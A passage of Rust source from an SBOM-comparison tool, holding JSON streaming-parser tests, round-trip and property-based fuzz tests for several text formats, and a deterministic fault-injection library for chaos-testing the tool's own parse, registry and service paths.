            assert_eq!(v.as_str(), Some(want), "{doc}");
            // And against the tiny-chunk streaming path, where the pair
            // can straddle a refill boundary.
            let pad = "x".repeat(700);
            let padded = format!(r#"{{"pad": "{pad}", "s": {doc}}}"#);
            let evs = events_chunked(&padded, 512).unwrap();
            assert_eq!(evs[4], JsonEvent::Str(want.into()), "{doc} (chunked)");
        }
    }

    #[test]
    fn rejects_malformed_with_classified_kinds() {
        for (doc, kind) in [
            ("{", StreamErrorKind::UnexpectedEof),
            ("[1,]", StreamErrorKind::Syntax),
            (r#"{"a" 1}"#, StreamErrorKind::Syntax),
            ("tru", StreamErrorKind::UnexpectedEof),
            ("truz", StreamErrorKind::Syntax),
            ("1 2", StreamErrorKind::Syntax),
            ("", StreamErrorKind::UnexpectedEof),
            (r#""abc"#, StreamErrorKind::UnexpectedEof),
            (r#""\q""#, StreamErrorKind::Syntax),
            (r#""\u12"#, StreamErrorKind::UnexpectedEof),
            (r#"{"a": 1,}"#, StreamErrorKind::Syntax),
            ("[1 2]", StreamErrorKind::Syntax),
        ] {
            let err = events(doc).unwrap_err();
            assert_eq!(err.kind(), kind, "{doc:?}: {err}");
        }
    }

    #[test]
    fn rejects_invalid_utf8() {
        let bytes = b"\"ab\xff\xfecd\"";
        let mut stream = JsonStream::new(&bytes[..]);
        let err = loop {
            match stream.next_event() {
                Ok(Some(_)) => {}
                Ok(None) => panic!("accepted invalid utf-8"),
                Err(e) => break e,
            }
        };
        assert_eq!(err.kind(), StreamErrorKind::Utf8);
    }

    #[test]
    fn depth_is_bounded() {
        let doc = "[".repeat(MAX_DEPTH + 10);
        let err = events(&doc).unwrap_err();
        assert_eq!(err.kind(), StreamErrorKind::DepthExceeded);
    }

    #[test]
    fn string_token_length_is_bounded() {
        let doc = format!("\"{}\"", "a".repeat(MAX_TOKEN + 100));
        let src = ChunkSource::with_chunk_size(doc.as_bytes(), 4096);
        let mut stream = JsonStream::from_source(src);
        let err = loop {
            match stream.next_event() {
                Ok(Some(_)) => {}
                Ok(None) => panic!("accepted over-long token"),
                Err(e) => break e,
            }
        };
        assert_eq!(err.kind(), StreamErrorKind::TokenTooLong);
        // The bound is the witness: window + at most MAX_TOKEN + 1 scratch.
        assert!(stream.peak_buffered() <= 4096 + MAX_TOKEN + 1);
    }

    #[test]
    fn error_reports_line_and_offset() {
        let err = events("{\n\"a\": \n@}").unwrap_err();
        assert_eq!(err.line(), 3);
        assert_eq!(err.byte_offset(), 8);
        assert!(err.to_string().contains("line 3"));
    }

    #[test]
    fn peak_buffered_stays_bounded_on_large_docs() {
        let mut doc = String::from("[");
        for i in 0..5000 {
            if i > 0 {
                doc.push(',');
            }
            doc.push_str(&format!("{{\"k{i}\": \"v{i}\"}}"));
        }
        doc.push(']');
        let src = ChunkSource::with_chunk_size(doc.as_bytes(), 1024);
        let mut stream = JsonStream::from_source(src);
        while let Some(_ev) = stream.next_event().unwrap() {}
        assert_eq!(stream.bytes_read(), doc.len() as u64);
        assert!(stream.peak_buffered() < 1024 + 64, "small tokens only");
    }

    #[test]
    fn line_reader_handles_terminators_and_eof() {
        let mut r = LineReader::new("a\nb\r\nc".as_bytes());
        assert_eq!(r.next_line().unwrap().as_deref(), Some("a"));
        assert_eq!(r.next_line().unwrap().as_deref(), Some("b"));
        assert_eq!(r.next_line().unwrap().as_deref(), Some("c"));
        assert_eq!(r.next_line().unwrap(), None);
        assert_eq!(r.next_line().unwrap(), None);
        assert_eq!(r.bytes_read(), 6);
    }

    #[test]
    fn line_reader_empty_lines_and_chunks() {
        let text = "first\n\nthird\n";
        let src = ChunkSource::with_chunk_size(text.as_bytes(), 512);
        let mut r = LineReader::from_source(src);
        assert_eq!(r.next_line().unwrap().as_deref(), Some("first"));
        assert_eq!(r.next_line().unwrap().as_deref(), Some(""));
        assert_eq!(r.next_line().unwrap().as_deref(), Some("third"));
        assert_eq!(r.next_line().unwrap(), None);
    }

    #[test]
    fn line_reader_rejects_overlong_and_non_utf8() {
        let long = "x".repeat(MAX_TOKEN + 10);
        let mut r = LineReader::new(long.as_bytes());
        assert_eq!(
            r.next_line().unwrap_err().kind(),
            StreamErrorKind::TokenTooLong
        );
        let mut r = LineReader::new(&b"ok\n\xff\xfe\n"[..]);
        assert_eq!(r.next_line().unwrap().as_deref(), Some("ok"));
        assert_eq!(r.next_line().unwrap_err().kind(), StreamErrorKind::Utf8);
    }

    #[test]
    fn interrupted_reader_is_retried() {
        struct Flaky {
            data: &'static [u8],
            pos: usize,
            interrupted: bool,
        }
        impl Read for Flaky {
            fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
                if !self.interrupted {
                    self.interrupted = true;
                    return Err(std::io::Error::from(std::io::ErrorKind::Interrupted));
                }
                let n = (self.data.len() - self.pos).min(buf.len()).min(3);
                buf[..n].copy_from_slice(&self.data[self.pos..self.pos + n]);
                self.pos += n;
                Ok(n)
            }
        }
        let flaky = Flaky {
            data: br#"{"a": [true, false]}"#,
            pos: 0,
            interrupted: false,
        };
        let evs = {
            let mut stream = JsonStream::new(flaky);
            let mut out = Vec::new();
            while let Some(ev) = stream.next_event().unwrap() {
                out.push(ev);
            }
            out
        };
        assert_eq!(evs.len(), 7);
    }

    #[test]
    fn io_errors_are_classified() {
        struct Broken;
        impl Read for Broken {
            fn read(&mut self, _buf: &mut [u8]) -> std::io::Result<usize> {
                Err(std::io::Error::other("disk on fire"))
            }
        }
        let mut stream = JsonStream::new(Broken);
        let err = stream.next_event().unwrap_err();
        assert_eq!(err.kind(), StreamErrorKind::Io);
        assert!(err.message().contains("disk on fire"));
    }
}

//! Round-trip tests for the JSON payload shapes the serving layer moves:
//! escape-heavy file contents, deeply nested arrays, large and awkward
//! numbers. `parse(to_string(v))` must reproduce `v` exactly for every
//! value the service can legitimately build.

use sbomdiff_textformats::{json, Value};

fn roundtrip(v: &Value) -> Value {
    let text = json::to_string(v);
    json::parse(&text).unwrap_or_else(|e| panic!("reparse failed: {e:?}\n{text}"))
}

#[test]
fn escape_sequences_survive() {
    let cases = [
        "plain",
        "tab\tnewline\ncarriage\rquote\"backslash\\",
        "nul \u{0} bell \u{7} unit-sep \u{1f}",
        "slash / stays unescaped",
        "unicode: grüß-gott パッケージ 🦀",
        "surrogate-adjacent: \u{d7ff} \u{e000}",
        "",
    ];
    for case in cases {
        let v = Value::from(case);
        assert_eq!(roundtrip(&v).as_str(), Some(case), "case {case:?}");
    }
}

#[test]
fn analyze_payload_roundtrips() {
    // The exact shape POST /v1/analyze receives: a files map whose values
    // are raw manifest text with embedded quotes and newlines.
    let mut files = Value::object();
    files.set(
        "package.json",
        Value::from("{\"name\": \"demo\",\n  \"dependencies\": {\"a\": \"^1.0\"}}\n"),
    );
    files.set("path with spaces/req.txt", Value::from("numpy==1.19.2\n"));
    files.set("weird\\name.txt", Value::from("x\ty\r\n"));
    let mut doc = Value::object();
    doc.set("name", Value::from("demo"));
    doc.set("seed", Value::from(42i64));
    doc.set("include_sboms", Value::from(true));
    doc.set("files", files);

    let back = roundtrip(&doc);
    assert_eq!(back, doc);
    assert_eq!(
        back.pointer("/files/package.json").and_then(|v| v.as_str()),
        doc.pointer("/files/package.json").and_then(|v| v.as_str())
    );
    // Key order is preserved, so serialization is stable end-to-end.
    assert_eq!(json::to_string(&back), json::to_string(&doc));
}

#[test]
fn nested_arrays_roundtrip() {
    // Matrix-of-rows shapes like the analyze response's pairwise table.
    let mut rows = Vec::new();
    for a in 0..4i64 {
        let mut row = Vec::new();
        for b in 0..4i64 {
            row.push(Value::Array(vec![
                Value::from(format!("tool-{a}")),
                Value::from(format!("tool-{b}")),
                Value::from(a as f64 / (b + 1) as f64),
            ]));
        }
        rows.push(Value::Array(row));
    }
    let v = Value::Array(rows);
    assert_eq!(roundtrip(&v), v);

    // And a deep (but in-limit) nesting ladder.
    let mut deep = Value::from("bottom");
    for _ in 0..150 {
        deep = Value::Array(vec![deep]);
    }
    assert_eq!(roundtrip(&deep), deep);
}

#[test]
fn large_and_awkward_numbers_roundtrip() {
    let exact_i64: &[i64] = &[
        0,
        1,
        -1,
        i32::MAX as i64,
        i32::MIN as i64,
        1 << 53, // first integer where f64 spacing reaches 2
        -(1 << 53),
        (1i64 << 53) - 1, // largest exactly-representable odd-adjacent value
    ];
    for &n in exact_i64 {
        let v = Value::from(n);
        let back = roundtrip(&v);
        assert_eq!(back.as_i64(), Some(n), "{n}");
    }

    let floats: &[f64] = &[
        0.5,
        -0.25,
        1e-9,
        1e300,
        -2.2250738585072014e-308, // smallest normal f64
        std::f64::consts::PI,
        1.7976931348623157e308, // f64::MAX
    ];
    for &f in floats {
        let v = Value::from(f);
        let back = roundtrip(&v);
        assert_eq!(back.as_f64(), Some(f), "{f}");
    }
}

#[test]
fn pretty_and_compact_forms_agree() {
    let mut doc = Value::object();
    doc.set("jaccard", Value::from(0.8333333333333334));
    doc.set(
        "tools",
        Value::Array(vec![Value::from("Trivy"), Value::from("Syft")]),
    );
    doc.set("empty_array", Value::Array(vec![]));
    doc.set("empty_object", Value::object());
    doc.set("null_field", Value::Null);
    let compact = json::to_string(&doc);
    let pretty = json::to_string_pretty(&doc);
    assert_eq!(json::parse(&compact).unwrap(), doc);
    assert_eq!(json::parse(&pretty).unwrap(), doc);
    assert!(compact.len() <= pretty.len());
}

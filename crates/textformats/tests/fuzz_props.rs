//! Fuzz-style property tests: no parser may panic on arbitrary input, and
//! serializers must round-trip.

use proptest::prelude::*;
use sbomdiff_textformats::{json, properties, toml, xml, yaml, Value};

fn value_strategy() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::Bool),
        (-1_000_000i64..1_000_000).prop_map(|n| Value::Num(n as f64)),
        "[a-zA-Z0-9 _.,:/@#\\-]{0,20}".prop_map(Value::Str),
        // strings with characters that need escaping
        prop_oneof![
            Just("\"quoted\"".to_string()),
            Just("a\\b\nc\td".to_string())
        ]
        .prop_map(Value::Str),
    ];
    leaf.prop_recursive(4, 64, 8, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..6).prop_map(Value::Array),
            prop::collection::vec(("[a-zA-Z][a-zA-Z0-9_-]{0,10}", inner), 0..6).prop_map(
                |entries| {
                    // Deduplicate keys: Value::set semantics make duplicate
                    // keys unrepresentable after a roundtrip.
                    let mut v = Value::object();
                    for (k, item) in entries {
                        v.set(k, item);
                    }
                    v
                }
            ),
        ]
    })
}

proptest! {
    #[test]
    fn json_parse_never_panics(s in "\\PC{0,200}") {
        let _ = json::parse(&s);
    }

    #[test]
    fn json_roundtrip(v in value_strategy()) {
        let compact = json::to_string(&v);
        let back = json::parse(&compact).unwrap();
        prop_assert_eq!(&back, &v);
        let pretty = json::to_string_pretty(&v);
        prop_assert_eq!(&json::parse(&pretty).unwrap(), &v);
    }

    #[test]
    fn toml_parse_never_panics(s in "\\PC{0,200}") {
        let _ = toml::parse(&s);
    }

    #[test]
    fn toml_simple_tables_roundtrip(
        keys in prop::collection::btree_set("[a-z][a-z0-9_-]{0,8}", 1..6),
        vals in prop::collection::vec("[a-zA-Z0-9 ./^~=<>*,-]{0,12}", 6)
    ) {
        let mut doc = String::new();
        for (k, val) in keys.iter().zip(&vals) {
            doc.push_str(&format!("{k} = \"{val}\"\n"));
        }
        let parsed = toml::parse(&doc).unwrap();
        for (k, val) in keys.iter().zip(&vals) {
            prop_assert_eq!(parsed.get(k).and_then(Value::as_str), Some(val.as_str()));
        }
    }

    #[test]
    fn yaml_parse_never_panics(s in "\\PC{0,200}") {
        let _ = yaml::parse(&s);
    }

    #[test]
    fn yaml_flat_mapping_roundtrip(
        keys in prop::collection::btree_set("[a-z][a-z0-9_-]{0,8}", 1..6),
        vals in prop::collection::vec("[a-zA-Z0-9_./-]{1,12}", 6)
    ) {
        let mut doc = String::new();
        for (k, val) in keys.iter().zip(&vals) {
            doc.push_str(&format!("{k}: \"{val}\"\n"));
        }
        let parsed = yaml::parse(&doc).unwrap();
        for (k, val) in keys.iter().zip(&vals) {
            prop_assert_eq!(parsed.get(k).and_then(Value::as_str), Some(val.as_str()));
        }
    }

    #[test]
    fn xml_parse_never_panics(s in "\\PC{0,200}") {
        let _ = xml::parse(&s);
    }

    #[test]
    fn xml_roundtrip(
        tag in "[a-zA-Z][a-zA-Z0-9]{0,8}",
        attr in "[a-zA-Z][a-zA-Z0-9]{0,8}",
        attr_val in "[a-zA-Z0-9 <>&\"']{0,12}",
        text in "[a-zA-Z0-9 <>&]{0,20}",
    ) {
        let mut root = xml::Element::new(tag.clone());
        root.attrs.push((attr.clone(), attr_val.clone()));
        let mut child = xml::Element::new("child");
        child.text = text.trim().to_string();
        root.children.push(child);
        let s = xml::to_string(&root);
        let back = xml::parse(&s).unwrap();
        prop_assert_eq!(back.attr(&attr), Some(attr_val.as_str()));
        prop_assert_eq!(&back.children[0].text, &root.children[0].text);
    }

    #[test]
    fn properties_never_panics(s in "\\PC{0,200}") {
        let _ = properties::parse_properties(&s);
        let _ = properties::parse_manifest(&s);
    }

    #[test]
    fn properties_roundtrip(
        keys in prop::collection::btree_set("[a-zA-Z][a-zA-Z0-9.]{0,8}", 1..6),
        vals in prop::collection::vec("[a-zA-Z0-9 ._/-]{0,12}", 6)
    ) {
        let mut doc = String::new();
        for (k, val) in keys.iter().zip(&vals) {
            doc.push_str(&format!("{k}={val}\n"));
        }
        let pairs = properties::parse_properties(&doc);
        for (k, val) in keys.iter().zip(&vals) {
            prop_assert_eq!(properties::get(&pairs, k), Some(val.trim()));
        }
    }
}

//! Deterministic fault injection and resilience primitives for sbomdiff.
//!
//! A [`FaultPlan`] describes which *sites* (named choke points in the parse,
//! registry, resolver and service hot paths) misbehave, how often, and how.
//! Installing a plan flips a process-global switch; instrumented code asks
//! [`check`] (usually via the [`point!`] macro) whether a fault fires for the
//! current `(site, key)` pair and reacts by surfacing a typed diagnostic,
//! retrying, or degrading gracefully.
//!
//! Three properties drive the design:
//!
//! - **Zero cost when disabled.** [`enabled`] is a single relaxed atomic
//!   load; the `point!` macro evaluates nothing else on the clean path.
//! - **Deterministic and schedule-independent.** Whether a fault fires is a
//!   pure function of `(plan seed, site, key, attempt)` — never of call
//!   counts or thread interleaving — so `jobs=1` and `jobs=4` runs of the
//!   same plan observe the same faults and produce byte-identical output.
//! - **Accountable.** Every fired fault is tallied as either *recovered*
//!   (absorbed by a retry or transparent latency) or *surfaced* (visible to
//!   the caller, who must emit a diagnostic or counter). The invariant
//!   `injected == recovered + surfaced` holds at every quiescent point and
//!   is asserted by the chaos harness.

#![cfg_attr(not(test), deny(clippy::unwrap_used, clippy::expect_used))]

use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{PoisonError, RwLock};
use std::time::Duration;

/// Message prefix carried by every diagnostic that reports an injected
/// fault, so downstream layers (and the chaos harness) can attribute it.
pub const INJECTED_MARKER: &str = "injected:";

/// True when `message` reports an injected fault (see [`INJECTED_MARKER`]).
pub fn is_injected(message: &str) -> bool {
    message.starts_with(INJECTED_MARKER)
}

/// Well-known fault site names. Sites are plain strings so downstream
/// crates can add their own, but everything sbomdiff instruments is listed
/// here and covered by [`sites::ALL`].
pub mod sites {
    /// Registry `versions()` lookup.
    pub const REGISTRY_VERSIONS: &str = "registry.versions";
    /// Registry `latest()` lookup.
    pub const REGISTRY_LATEST: &str = "registry.latest";
    /// Registry `latest_matching()` lookup.
    pub const REGISTRY_LATEST_MATCHING: &str = "registry.latest_matching";
    /// Registry `deps_of()` lookup.
    pub const REGISTRY_DEPS_OF: &str = "registry.deps_of";
    /// One node visit in the resolver's BFS walk.
    pub const RESOLVER_VISIT: &str = "resolver.visit";
    /// Manifest/lockfile parse of one file by one emulated tool.
    pub const PARSE_FILE: &str = "parse.file";
    /// Reference (best-practice) parse of one file.
    pub const PARSE_REFERENCE: &str = "parse.reference";
    /// One tool's generation step inside `/v1/analyze`.
    pub const SERVICE_ANALYZE: &str = "service.analyze";
    /// Streaming ingestion of one externally supplied SBOM document
    /// (`sbomdiff diff <a> <b>`, `POST /v1/diff`).
    pub const INGEST_DOC: &str = "ingest.doc";
    /// Per-package advisory lookup in the vulnerability-impact path
    /// (`POST /v1/impact`, `experiments vuln`).
    pub const VULN_LOOKUP: &str = "vuln.lookup";
    /// Enrichment-cache fill for one `(ecosystem, package)` key.
    pub const VULN_ENRICH: &str = "vuln.enrich";
    /// Per-document quality scoring in opt-in `/v1/analyze` requests.
    pub const QUALITY_SCORE: &str = "quality.score";

    /// Every site the workspace instruments.
    pub const ALL: &[&str] = &[
        REGISTRY_VERSIONS,
        REGISTRY_LATEST,
        REGISTRY_LATEST_MATCHING,
        REGISTRY_DEPS_OF,
        RESOLVER_VISIT,
        PARSE_FILE,
        PARSE_REFERENCE,
        SERVICE_ANALYZE,
        INGEST_DOC,
        VULN_LOOKUP,
        VULN_ENRICH,
        QUALITY_SCORE,
    ];

    /// Sites where an injected panic is guaranteed to land under a
    /// `catch_unwind` boundary. [`crate::FaultPlan::chaos`] only emits
    /// `Panic` rules for these; elsewhere panics are demoted to `Error`.
    pub const PANIC_SAFE: &[&str] = &[PARSE_FILE, PARSE_REFERENCE, SERVICE_ANALYZE];
}

/// What happens when a fault fires.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FaultAction {
    /// The operation fails; the caller must surface a typed diagnostic.
    Error,
    /// The operation is delayed but succeeds. Transparent to the caller;
    /// accounted as recovered. Real sleeps are capped (see [`check`]).
    Latency(Duration),
    /// The operation yields corrupted input (e.g. a truncated read). The
    /// caller must both degrade and surface a diagnostic.
    Corrupt,
    /// The operation panics. Only meaningful at [`sites::PANIC_SAFE`]
    /// sites, where a `catch_unwind` boundary converts it to an error.
    Panic,
}

/// One rule in a [`FaultPlan`]: fire `action` at `site` (exact name, or a
/// prefix when the pattern ends in `*`) with probability `rate_ppm` parts
/// per million, optionally restricted to one exact `key`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FaultRule {
    pub site: String,
    pub key: Option<String>,
    pub rate_ppm: u32,
    pub action: FaultAction,
}

impl FaultRule {
    pub fn new(site: &str, rate_ppm: u32, action: FaultAction) -> Self {
        FaultRule {
            site: site.to_string(),
            key: None,
            rate_ppm,
            action,
        }
    }

    pub fn for_key(mut self, key: &str) -> Self {
        self.key = Some(key.to_string());
        self
    }

    fn matches(&self, site: &str, key: &str) -> bool {
        let site_ok = if let Some(prefix) = self.site.strip_suffix('*') {
            site.starts_with(prefix)
        } else {
            self.site == site
        };
        site_ok && self.key.as_deref().is_none_or(|k| k == key)
    }
}

/// A seeded, declarative description of which faults fire where.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FaultPlan {
    pub seed: u64,
    pub rules: Vec<FaultRule>,
}

fn splitmix64(state: &mut u64) -> u64 {
    *state = state.wrapping_add(0x9e37_79b9_7f4a_7c15);
    let mut z = *state;
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

impl FaultPlan {
    /// A plan with no rules: faultline is enabled (caches bypass, stats
    /// accumulate) but nothing ever fires. Useful as a control.
    pub fn empty(seed: u64) -> Self {
        FaultPlan {
            seed,
            rules: Vec::new(),
        }
    }

    /// Deterministically generate the `index`-th chaos plan for `seed`:
    /// 1–4 rules over the known sites with moderate-to-high fire rates.
    /// `Panic` is only emitted at [`sites::PANIC_SAFE`] sites; a panic
    /// drawn for any other site is demoted to `Error`.
    pub fn chaos(seed: u64, index: u64) -> Self {
        let mut st = seed ^ index.wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ 0x5bd1_e995;
        let nrules = 1 + (splitmix64(&mut st) % 4) as usize;
        let mut rules = Vec::with_capacity(nrules);
        for _ in 0..nrules {
            let site = sites::ALL[(splitmix64(&mut st) as usize) % sites::ALL.len()];
            let rate_ppm = 50_000 + (splitmix64(&mut st) % 450_000) as u32;
            let action = match splitmix64(&mut st) % 4 {
                0 => FaultAction::Latency(Duration::from_millis(1 + splitmix64(&mut st) % 8)),
                1 => FaultAction::Corrupt,
                2 if sites::PANIC_SAFE.contains(&site) => FaultAction::Panic,
                _ => FaultAction::Error,
            };
            rules.push(FaultRule::new(site, rate_ppm, action));
        }
        FaultPlan {
            seed: seed ^ splitmix64(&mut st),
            rules,
        }
    }

    /// First rule matching `(site, key)`, if any.
    fn rule_for(&self, site: &str, key: &str) -> Option<&FaultRule> {
        self.rules.iter().find(|r| r.matches(site, key))
    }
}

/// Running totals for an installed plan. `injected == recovered + surfaced`
/// at every quiescent point.
#[derive(Debug, Default)]
struct Counters {
    injected: AtomicU64,
    recovered: AtomicU64,
    surfaced: AtomicU64,
}

/// A snapshot of the fault counters of the currently installed plan.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct FaultStats {
    /// Faults that fired.
    pub injected: u64,
    /// Fired faults absorbed transparently (latency, successful retry).
    pub recovered: u64,
    /// Fired faults that reached the caller, who owes a diagnostic.
    pub surfaced: u64,
}

impl FaultStats {
    /// `injected == recovered + surfaced`.
    pub fn balanced(&self) -> bool {
        self.injected == self.recovered + self.surfaced
    }
}

struct Installed {
    plan: FaultPlan,
    counters: Counters,
}

static ENABLED: AtomicBool = AtomicBool::new(false);
static STATE: RwLock<Option<std::sync::Arc<Installed>>> = RwLock::new(None);

fn read_state() -> Option<std::sync::Arc<Installed>> {
    STATE.read().unwrap_or_else(PoisonError::into_inner).clone()
}

/// True when a plan is installed. A single relaxed atomic load — this is
/// the whole cost of an un-fired fault point on the clean path.
#[inline]
pub fn enabled() -> bool {
    ENABLED.load(Ordering::Relaxed)
}

/// Uninstalls the plan installed by [`install`] when dropped.
#[must_use = "dropping the guard uninstalls the plan"]
pub struct Guard {
    _private: (),
}

impl Drop for Guard {
    fn drop(&mut self) {
        ENABLED.store(false, Ordering::SeqCst);
        *STATE.write().unwrap_or_else(PoisonError::into_inner) = None;
    }
}

/// Install `plan` process-wide and return a [`Guard`] that uninstalls it on
/// drop. Installing over an existing plan replaces it; tests that install
/// plans must serialize themselves (plans are process-global state).
pub fn install(plan: FaultPlan) -> Guard {
    let installed = std::sync::Arc::new(Installed {
        plan,
        counters: Counters::default(),
    });
    *STATE.write().unwrap_or_else(PoisonError::into_inner) = Some(installed);
    ENABLED.store(true, Ordering::SeqCst);
    Guard { _private: () }
}

/// Snapshot the counters of the installed plan (zeros when none).
pub fn stats() -> FaultStats {
    match read_state() {
        Some(st) => FaultStats {
            injected: st.counters.injected.load(Ordering::SeqCst),
            recovered: st.counters.recovered.load(Ordering::SeqCst),
            surfaced: st.counters.surfaced.load(Ordering::SeqCst),
        },
        None => FaultStats::default(),
    }
}

const FNV_OFFSET: u64 = 0xcbf2_9ce4_8422_2325;
const FNV_PRIME: u64 = 0x0100_0000_01b3;

/// Pure fire decision: hash `(seed, site, key, attempt)` into ppm space.
fn mix(seed: u64, site: &str, key: &str, attempt: u32) -> u64 {
    let mut h = FNV_OFFSET ^ seed;
    for b in site.bytes() {
        h = (h ^ u64::from(b)).wrapping_mul(FNV_PRIME);
    }
    h = (h ^ 0xff).wrapping_mul(FNV_PRIME);
    for b in key.bytes() {
        h = (h ^ u64::from(b)).wrapping_mul(FNV_PRIME);
    }
    h = (h ^ u64::from(attempt)).wrapping_mul(FNV_PRIME);
    // Final avalanche so low bits depend on the whole input.
    h ^= h >> 33;
    h = h.wrapping_mul(0xff51_afd7_ed55_8ccd);
    h ^ (h >> 33)
}

fn decide(plan: &FaultPlan, site: &str, key: &str, attempt: u32) -> Option<FaultAction> {
    let rule = plan.rule_for(site, key)?;
    let roll = mix(plan.seed, site, key, attempt) % 1_000_000;
    (roll < u64::from(rule.rate_ppm)).then_some(rule.action)
}

/// Injected latencies sleep for real, but never longer than this — chaos
/// runs stack hundreds of fault points and must stay fast.
const MAX_REAL_SLEEP: Duration = Duration::from_millis(25);

fn bounded_sleep(d: Duration) {
    std::thread::sleep(d.min(MAX_REAL_SLEEP));
}

/// A fault surfaced to the caller by [`check`] or [`with_retry`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Surfaced {
    /// The operation failed; emit a diagnostic with [`INJECTED_MARKER`].
    Error,
    /// The operation produced corrupted input; degrade and emit a
    /// diagnostic with [`INJECTED_MARKER`].
    Corrupt,
}

impl Surfaced {
    /// Canonical diagnostic message for this surfaced fault at `site`.
    pub fn message(self, site: &str) -> String {
        match self {
            Surfaced::Error => format!("{INJECTED_MARKER} fault at {site}"),
            Surfaced::Corrupt => format!("{INJECTED_MARKER} corrupted input at {site}"),
        }
    }
}

/// Evaluate the fault point `(site, key)` against the installed plan.
///
/// Returns `None` when no fault fires (including when no plan is
/// installed); the caller proceeds normally. Latency faults sleep and are
/// accounted as recovered before returning `None`. Panic faults are
/// accounted as surfaced and then panic — only use at [`sites::PANIC_SAFE`]
/// sites. `Some(surfaced)` means the caller must honor the contract in
/// [`Surfaced`]: the fault is already accounted, and the caller owes the
/// response a diagnostic carrying [`INJECTED_MARKER`].
pub fn check(site: &str, key: &str) -> Option<Surfaced> {
    if !enabled() {
        return None;
    }
    let st = read_state()?;
    let action = decide(&st.plan, site, key, 0)?;
    st.counters.injected.fetch_add(1, Ordering::SeqCst);
    match action {
        FaultAction::Latency(d) => {
            st.counters.recovered.fetch_add(1, Ordering::SeqCst);
            bounded_sleep(d);
            None
        }
        FaultAction::Error => {
            st.counters.surfaced.fetch_add(1, Ordering::SeqCst);
            Some(Surfaced::Error)
        }
        FaultAction::Corrupt => {
            st.counters.surfaced.fetch_add(1, Ordering::SeqCst);
            Some(Surfaced::Corrupt)
        }
        FaultAction::Panic => {
            st.counters.surfaced.fetch_add(1, Ordering::SeqCst);
            panic!("{INJECTED_MARKER} panic at {site} (key {key})");
        }
    }
}

/// Evaluate a fault point without shared accounting or side effects:
/// returns the raw action the plan assigns to `(site, key, attempt)`.
/// [`with_retry`] uses this to defer accounting until the outcome of the
/// whole retry loop is known.
fn raw_check(site: &str, key: &str, attempt: u32) -> Option<FaultAction> {
    if !enabled() {
        return None;
    }
    let st = read_state()?;
    decide(&st.plan, site, key, attempt)
}

fn account(injected: u64, recovered: u64, surfaced: u64) {
    if injected == 0 {
        return;
    }
    if let Some(st) = read_state() {
        st.counters.injected.fetch_add(injected, Ordering::SeqCst);
        st.counters.recovered.fetch_add(recovered, Ordering::SeqCst);
        st.counters.surfaced.fetch_add(surfaced, Ordering::SeqCst);
    }
}

/// Retry/backoff/timeout policy for an operation wrapped by [`with_retry`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RetryPolicy {
    /// Additional attempts after the first (0 = no retry).
    pub retries: u32,
    /// Backoff before attempt `n` (1-based): `backoff * n`.
    pub backoff: Duration,
    /// Virtual-time budget for the whole operation: injected latency and
    /// backoff accrue against it deterministically; once exceeded the
    /// operation fails even if retries remain.
    pub timeout: Duration,
}

impl RetryPolicy {
    pub const fn new(retries: u32, backoff: Duration, timeout: Duration) -> Self {
        RetryPolicy {
            retries,
            backoff,
            timeout,
        }
    }
}

/// Run `f` under the fault point `(site, key)` with retry and a
/// deterministic (virtual-time) phase timeout.
///
/// Per attempt, the plan may inject latency (accrues against the virtual
/// timeout, sleeps a bounded real amount) or an error/corruption (the
/// attempt fails without running `f`). An attempt with no injected failure
/// runs `f`; `f` returning `None` is a *genuine* miss and is returned
/// as `Ok(None)` immediately — retrying a real lookup miss would change
/// clean-path semantics. Accounting is deferred until the outcome is
/// known: every fault fired along the way is recovered if the operation
/// eventually succeeds (or genuinely misses), surfaced if it gives up.
///
/// Returns `Err(Surfaced::Error)` when retries or the timeout budget are
/// exhausted; the caller owes a diagnostic, as with [`check`].
pub fn with_retry<T>(
    site: &str,
    key: &str,
    policy: &RetryPolicy,
    mut f: impl FnMut() -> Option<T>,
) -> Result<Option<T>, Surfaced> {
    if !enabled() {
        return Ok(f());
    }
    let mut fired: u64 = 0;
    let mut elapsed = Duration::ZERO;
    for attempt in 0..=policy.retries {
        if attempt > 0 {
            let backoff = policy.backoff * attempt;
            elapsed += backoff;
            if elapsed > policy.timeout {
                break;
            }
            bounded_sleep(backoff);
        }
        match raw_check(site, key, attempt) {
            Some(FaultAction::Latency(d)) => {
                fired += 1;
                elapsed += d;
                bounded_sleep(d);
                if elapsed > policy.timeout {
                    break;
                }
                // Latency is transparent: the attempt still runs.
                let out = f();
                account(fired, fired, 0);
                return Ok(out);
            }
            Some(_) => {
                // Error, Corrupt and Panic all fail the attempt; retry.
                fired += 1;
            }
            None => {
                let out = f();
                account(fired, fired, 0);
                return Ok(out);
            }
        }
    }
    account(fired, 0, fired);
    Err(Surfaced::Error)
}

/// Fault point shorthand: `fault::point!("site", key)` evaluates to
/// `Option<Surfaced>` and compiles to a single atomic load when no plan is
/// installed.
#[macro_export]
macro_rules! point {
    ($site:expr, $key:expr) => {
        if $crate::enabled() {
            $crate::check($site, $key)
        } else {
            None
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::{Mutex, MutexGuard};

    // Plans are process-global; every test that installs one must hold
    // this lock so parallel test threads don't observe each other's plans.
    static LOCK: Mutex<()> = Mutex::new(());

    fn serialize() -> MutexGuard<'static, ()> {
        LOCK.lock().unwrap_or_else(PoisonError::into_inner)
    }

    fn always(site: &str, action: FaultAction) -> FaultPlan {
        FaultPlan {
            seed: 7,
            rules: vec![FaultRule::new(site, 1_000_000, action)],
        }
    }

    #[test]
    fn disabled_is_inert() {
        let _l = serialize();
        assert!(!enabled());
        assert_eq!(check(sites::PARSE_FILE, "x"), None);
        assert_eq!(point!(sites::PARSE_FILE, "x"), None);
        assert_eq!(stats(), FaultStats::default());
    }

    #[test]
